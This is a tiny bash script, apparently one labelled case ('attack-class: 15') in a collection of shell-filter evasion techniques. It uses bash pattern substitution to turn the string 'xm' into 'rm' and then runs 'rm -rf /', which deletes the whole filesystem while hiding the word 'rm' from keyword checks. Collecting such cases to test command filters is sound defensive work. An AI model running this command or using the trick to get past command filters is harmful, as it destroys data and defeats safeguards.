#!/usr/bin/env bash
# attack-class: 15
# title: ${v/x/r}
# why: pattern substitution turns xm into rm

v=xm
${v/x/r} -rf /
